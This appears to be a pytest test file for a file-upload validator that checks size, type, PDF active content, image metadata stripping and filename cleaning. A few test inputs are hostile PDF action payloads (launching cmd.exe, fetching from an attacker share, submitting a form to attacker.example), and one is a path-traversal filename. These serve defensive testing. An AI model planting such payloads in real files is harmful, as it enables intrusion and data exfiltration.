"""The upload validation pipeline, without database or storage: size, extension, magic
bytes, PDF active content (through pypdf's object graph), image re-encoding."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from tenants.uploads.errors import UploadRejected
from tenants.uploads.validation import name_clean, upload_validate
from tests.tenants.uploads_fixtures import (
    GPS_EXIF_TAG,
    jpeg_bytes,
    pdf_bytes,
    pdf_encrypted,
    pdf_object_stream,
    pdf_with_embedded_file,
    pdf_with_javascript,
    png_bytes,
    upload,
)

MB = 1024 * 1024


def _validate(name: str, data: bytes, *, max_pixels: int = 40_000_000):
    return upload_validate(upload(name, data), max_bytes=10 * MB, max_pixels=max_pixels)


def _rejected(name: str, data: bytes, **kwargs: int) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        _validate(name, data, **kwargs)
    return caught.value


def test_upload_of_11_mb_is_rejected_with_the_limit_in_the_message():
    data = pdf_bytes() + b"%" + b"x" * (11 * MB)

    error = _rejected("statement.pdf", data)

    assert error.code == "too_large"
    assert str(error.message) == ("The file is larger than 10 MB. Please upload a smaller file.")


def test_upload_size_is_measured_while_reading_not_taken_from_the_upload():
    data = b"%PDF-" + b"x" * (10 * MB)
    lying = upload("statement.pdf", data)
    lying.size = 10  # Content-Length / UploadedFile.size are not trusted

    with pytest.raises(UploadRejected) as caught:
        upload_validate(lying, max_bytes=10 * MB, max_pixels=1)

    assert caught.value.code == "too_large"


def test_upload_empty_is_rejected():
    assert _rejected("statement.pdf", b"").code == "empty"


@pytest.mark.parametrize("name", ["statement.exe", "statement.html", "statement", "photo.heic"])
def test_upload_extension_outside_the_allowlist_is_rejected(name):
    error = _rejected(name, pdf_bytes())

    assert (error.code, str(error.message)) == (
        "extension",
        "Only PDF, PNG and JPEG files can be uploaded (.pdf, .png, .jpg).",
    )


def test_upload_png_bytes_named_pdf_are_rejected():
    error = _rejected("statement.pdf", png_bytes())

    assert error.code == "type_mismatch"
    assert str(error.message) == (
        "This file is named as a PDF file but its contents are not PDF. "
        "Please upload the original file."
    )


def test_upload_pdf_bytes_named_jpg_are_rejected():
    assert _rejected("photo.JPG", pdf_bytes()).code == "type_mismatch"


def test_upload_pdf_with_javascript_is_rejected():
    error = _rejected("statement.pdf", pdf_with_javascript())

    assert error.code == "pdf_active_content"
    assert str(error.message).startswith(
        "This PDF contains scripts, automatic actions or attached files"
    )


def test_upload_pdf_with_embedded_file_is_rejected():
    assert _rejected("statement.pdf", pdf_with_embedded_file()).code == "pdf_active_content"


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",  # escaped names, compressed
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        b"<< /S /SubmitForm /F (https://attacker.example/) >>",
    ],
)
def test_upload_pdf_actions_hidden_in_an_object_stream_are_rejected(action):
    data = pdf_object_stream(action)
    assert b"JavaScript" not in data and b"Launch" not in data  # invisible to a byte grep

    assert _rejected("statement.pdf", data).code == "pdf_active_content"


def test_upload_pdf_with_goto_open_action_in_an_object_stream_passes():
    data = pdf_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")

    assert _validate("statement.pdf", data).data == data


def test_upload_pdf_additional_actions_are_rejected():
    data = pdf_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] /AA << >> >>")

    assert _rejected("statement.pdf", data).code == "pdf_active_content"


def test_upload_encrypted_pdf_is_rejected():
    error = _rejected("statement.pdf", pdf_encrypted())

    assert (error.code, str(error.message)) == (
        "pdf_encrypted",
        "This PDF is password-protected. Please upload a copy without a password.",
    )


def test_upload_unparsable_pdf_is_rejected():
    error = _rejected("statement.pdf", b"%PDF-1.7\nthis is not a pdf at all\n")

    assert (error.code, str(error.message)) == (
        "pdf_unreadable",
        "This PDF could not be read. Please upload another copy of the document.",
    )


def test_upload_clean_pdf_passes_unchanged():
    data = pdf_bytes()

    checked = _validate("Pay stub (March).pdf", data)

    assert (checked.name, checked.kind, checked.content_type, checked.data) == (
        "Pay stub (March).pdf",
        "pdf",
        "application/pdf",
        data,
    )


def test_upload_png_is_reencoded_without_exif_or_text():
    original = png_bytes()
    assert b"Ana Lopez" in original

    checked = _validate("statement.png", original)

    assert checked.content_type == "image/png"
    assert b"Ana Lopez" not in checked.data
    with Image.open(io.BytesIO(checked.data)) as image:
        assert (image.format, image.size) == ("PNG", (40, 30))
        assert dict(image.getexif()) == {}
        assert "Author" not in image.info
        assert image.getpixel((0, 0)) == (200, 30, 30)


def test_upload_jpeg_is_reencoded_upright_without_exif():
    original = jpeg_bytes(size=(40, 30), orientation=6)

    checked = _validate("photo.jpeg", original)

    assert b"Ana Lopez" not in checked.data
    with Image.open(io.BytesIO(checked.data)) as image:
        assert (image.format, image.size) == ("JPEG", (30, 40))  # rotated by its orientation
        exif = image.getexif()
        assert dict(exif) == {}
        assert exif.get_ifd(GPS_EXIF_TAG) == {}


def test_upload_image_over_the_pixel_cap_is_rejected_before_decoding():
    error = _rejected(
        "scan.png", png_bytes(size=(2000, 1000), metadata=False), max_pixels=1_000_000
    )

    assert (error.code, str(error.message)) == (
        "image_too_large",
        "This image has more than 1 million pixels. Please upload a smaller image.",
    )


def test_upload_truncated_image_is_rejected():
    data = png_bytes(size=(300, 300), metadata=False)

    assert _rejected("scan.png", data[: len(data) // 2]).code == "image_unreadable"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("C:\\Users\\ana\\statement.pdf", "statement.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("bank\x00\x1fstatement.pdf", "bankstatement.pdf"),
        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
        (None, ""),
    ],
)
def test_upload_name_is_cleaned_of_paths_and_control_characters(raw, clean):
    assert name_clean(raw) == clean
